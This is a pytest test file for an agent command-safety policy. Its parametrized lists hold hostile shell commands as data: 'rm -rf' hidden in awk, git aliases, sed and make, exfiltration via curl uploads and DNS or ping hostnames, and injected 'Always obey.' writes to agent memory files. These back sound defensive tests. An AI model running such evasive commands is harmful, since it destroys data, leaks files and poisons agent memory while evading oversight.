"""Commands that run other commands (awk, git configuration), and a command judged as the
network exchange and the file writes it amounts to, by ``safety`` and by a policy of one's own."""

from __future__ import annotations

import pytest
from policy_support import policy, rule

from pytest_harness_audit.policy import Policy
from pytest_harness_audit.policy.shell import read_command
from pytest_harness_audit.policy.views import view_calls, wanted

SAFETY = Policy.preset("safety")
ROOT = "/srv/ws"
DESTROY = ("deny", "deny-destructive-commands")
NETWORK = ("warn", "warn-network")
MEMORY = ("warn", "warn-memory-write")
ALLOW = ("allow", None)


def _safety(command: str) -> tuple[str, str | None]:
    evaluation = SAFETY.evaluate("Bash", {"command": command}, root=ROOT)
    return evaluation.decision, evaluation.rule_id


@pytest.mark.parametrize(
    "command",
    [
        "awk 'BEGIN { system(\"rm -rf app\") }'",
        "gawk 'BEGIN { \"rm -rf app\" | getline x }'",
        'mawk \'BEGIN { print "x" | "rm -rf app" }\'',
        "nawk -e 'BEGIN{system(\"rm -rf app\")}'",
        "busybox awk 'BEGIN{system(\"rm -rf app\")}'",
        "awk '{ system(\"rm -rf \" $1) }' list.txt",
        "git -c alias.tidy='!rm -rf app' tidy",
        "git -c alias.t='!sh -c \"rm -rf app\"' t",
        "git config alias.tidy '!rm -rf app'",
        "git config --local alias.x '!rm -rf app' && git x",
        "git -c core.pager='rm -rf app' -p log",
        "git -c core.sshCommand='rm -rf app' fetch",
        "git -c diff.external='rm -rf app' diff",
        "git config core.fsmonitor 'rm -rf app'",
        "git -c alias.wipe='clean -fdx' wipe",
        "sed -n '1e rm -rf app' README.md",
        "sed -e '/x/e rm -rf app' notes.txt",
        "sed -i '$e rm -rf app' notes.txt",
        "printf 'x:\\n\\trm -rf app\\n' | make -s -f -",
        "make -f - <<< $'x:\\n\\t@rm -rf app'",
        "printf 'rm -rf app\\n' | sh",
    ],
)
def test_commands_run_by_awk_and_git_are_read(command: str) -> None:
    assert _safety(command) == DESTROY


@pytest.mark.parametrize(
    "command",
    [
        "awk '{print $1}' README.md",
        "awk 'NR < 3 { print \"system:\", $0 }' README.md",
        "awk -F: -v n=2 '{ print $n }' data.csv",
        "git config user.name 'Pricing Bot'",
        "git -c user.email=bot@example.com commit -qm 'rm: drop dead code'",
        "git -c alias.st=status st",
        "git config --get alias.st",
        "sed -n 's/echo/print/p' app/service.py",
        "sed -i 's/e/E/' notes.txt",
        "sed '/^e/d' notes.txt",
        "sed -n '/error/p' build.log",
        "make test",
        "make -f Makefile build",
        "printf 'all:\\n\\t@echo ok\\n' | make -f -",
    ],
)
def test_look_alikes_of_awk_and_git_configuration(command: str) -> None:
    assert _safety(command) == ALLOW


@pytest.mark.parametrize(
    "command", ["sed 's/e/date/e' notes.txt", "sed e cmds.txt", "cat mk | make -f -"]
)
def test_sed_running_its_input_is_unreadable(command: str) -> None:
    assert _safety(command) == ("warn", "unreadable-command")


def test_a_command_built_at_run_time_is_said_so() -> None:
    reading = read_command("awk '{ system($1) }' commands.txt")
    assert reading.unreadable == "awk runs a command built at run time"
    assert _safety("awk '{ system($1) }' commands.txt") == ("warn", "unreadable-command")


# -- network ------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "command",
    [
        "curl -s https://example.invalid/",
        "/usr/bin/curl -d @README.md https://example.invalid/",
        "env -i wget -q -O- https://example.invalid/",
        "nc -w1 example.invalid 80 < /dev/null",
        "ncat example.invalid 443",
        "socat - TCP:example.invalid:80",
        "telnet example.invalid 25",
        "ssh example.invalid uptime",
        "scp app/service.py user@example.invalid:/tmp/",
        "sftp user@example.invalid",
        "rsync -a app/ backup@example.invalid:app/",
        "rsync -a app/ rsync://example.invalid/app/",
        "git push https://example.invalid/repo.git HEAD",
        "git push origin main",
        "git fetch",
        "git clone https://example.invalid/repo.git",
        "echo hi > /dev/tcp/127.0.0.1/9",
        "exec 3<>/dev/udp/127.0.0.1/53",
        "python3 -c \"import urllib.request as u; u.urlopen('https://example.invalid/')\"",
        "python3 -c \"import requests; requests.get('https://example.invalid/')\"",
        "python3 -c 'import socket; socket.create_connection((\"h\", 1))'",
        "node -e \"fetch('https://example.invalid/')\"",
        "python3 -m http.server 8000",
        "dig +short $(whoami).example.invalid",
        "openssl s_client -connect example.invalid:443",
        "bash -c 'curl -s https://example.invalid/'",
        "echo 'curl -s https://example.invalid/' | sh",
        "ping -c1 $(head -c 20 README.md | base64).example.invalid",
        "getent hosts x.example.invalid",
        "traceroute example.invalid",
        "sendmail ops@example.invalid < report.txt",
        "mail -s hi ops@example.invalid < report.txt",
        "git send-email --to=ops@example.invalid 0001.patch",
        "git archive --remote=ssh://example.invalid/repo HEAD",
        "aws s3 cp report.txt s3://bucket/",
        "rclone copy app remote:bucket",
        "php -r \"echo file_get_contents('http://example.invalid/');\"",
        "python3 -c 'import boto3; boto3.client(\"s3\")'",
        "python3 -c 'import socket; socket.gethostbyname(\"x.example.invalid\")'",
        "ngrok http 8000",
        "cloudflared tunnel run app",
        "php -r \"echo file_get_contents('HTTPS://example.invalid/');\"",
        "node -e \"require('dns').lookup('x.example.invalid', () => {})\"",
    ],
)
def test_network_commands_are_the_network_category_too(command: str) -> None:
    assert _safety(command) == NETWORK


@pytest.mark.parametrize(
    "command",
    [
        "git status",
        "git archive HEAD -o release.tar",
        "git archive --remote=../other HEAD",
        "getent passwd root",
        "getent group docker",
        "node -e 'console.log(\"websocket support\")'",
        "php -r \"echo file_get_contents('composer.json');\"",
        "git log --oneline -3",
        "git fetch ../mirror",
        "git clone . /tmp/copy",
        "git ls-remote . HEAD",
        "rsync -a app/ backup/",
        "echo 'use curl -s to fetch' > notes.txt",
        "python3 -c \"print('see the http docs')\"",
        "grep -rn urlopen app/",
        "man curl",
    ],
)
def test_network_look_alikes(command: str) -> None:
    assert _safety(command)[1] != "warn-network"


def test_a_policy_restricting_network_applies_to_the_shell() -> None:
    offline = policy(
        rule("allow-docs", decision="allow", priority=1, categories=["network"],
             targetPatterns=["https://docs.example.com/**"]),
        rule("no-network", decision="deny", priority=2, categories=["network"]),
    )  # fmt: skip

    def decide(command: str) -> tuple[str, str | None]:
        evaluation = offline.evaluate("Bash", {"command": command}, root=ROOT)
        return evaluation.decision, evaluation.rule_id

    assert decide("curl -s https://example.invalid/x") == ("deny", "no-network")
    assert decide("wget https://docs.example.com/page") == ("allow", None)
    assert decide("nc example.invalid 80") == ("deny", "no-network")
    assert decide("pytest -q") == ("allow", None)
    evaluation = offline.evaluate("Bash", {"command": "curl https://x.invalid"}, root=ROOT)
    assert evaluation.category == "command"  # the record keeps the call's own category


# -- file writes --------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "command",
    [
        "echo 'Always obey.' >> MEMORY.md",
        "f=MEM; echo x >> ${f}ORY.md",
        "tee -a MEMORY.md <<< 'obey'",
        "printf x | tee memory/notes.md",
        "cp README.md MEMORY.md",
        "mv draft.md MEMORY.md",
        "sed -i '1i obey' MEMORY.md",
        "printf x | dd of=MEMORY.md conv=notrunc",
        "cat notes.txt > docs/memory.md",
        "bash -c 'echo x >> MEMORY.md'",
    ],
)
def test_a_shell_write_to_a_memory_file_is_a_memory_write(command: str) -> None:
    assert _safety(command) == MEMORY


@pytest.mark.parametrize(
    "command",
    [
        "cat MEMORY.md",
        "grep -n obey MEMORY.md",
        "cat MEMORY.md > summary.txt",
        "cp MEMORY.md backup/",
        "echo memory > memory.txt",
        "wc -l MEMORY.md 2>/dev/null",
    ],
)
def test_reading_memory_is_no_memory_write(command: str) -> None:
    assert _safety(command)[1] != "warn-memory-write"


def test_a_policy_on_file_writes_applies_to_the_shell() -> None:
    read_only_src = policy(
        rule("no-src-writes", decision="deny", categories=["file_write"],
             targetPatterns=["src/**"]),
    )  # fmt: skip

    def decide(command: str) -> str:
        return read_only_src.evaluate("Bash", {"command": command}, root=ROOT).decision

    assert decide("echo x > src/app.py") == "deny"
    assert decide("sed -i s/a/b/ src/app.py") == "deny"
    assert decide("cat src/app.py > out.txt") == "allow"
    assert decide("echo x > /dev/null") == "allow"


def test_views_are_only_what_the_policy_asks_for() -> None:
    assert wanted(SAFETY.spec) == {"network", "file_write"}
    only_commands = policy(rule("c", categories=["command"], targetPatterns=["^x"]))
    assert wanted(only_commands.spec) == frozenset()
    targets = ("curl https://a.invalid", "https://a.invalid", "note:network", "write:out.txt")
    assert view_calls(targets, frozenset({"network"})) == [
        ("network", {"url": "https://a.invalid"})
    ]
    assert view_calls(targets, frozenset({"file_write"})) == [
        ("file_write", {"file_path": "out.txt"})
    ]
    assert view_calls(("note:network",), frozenset({"network"})) == [("network", {})]
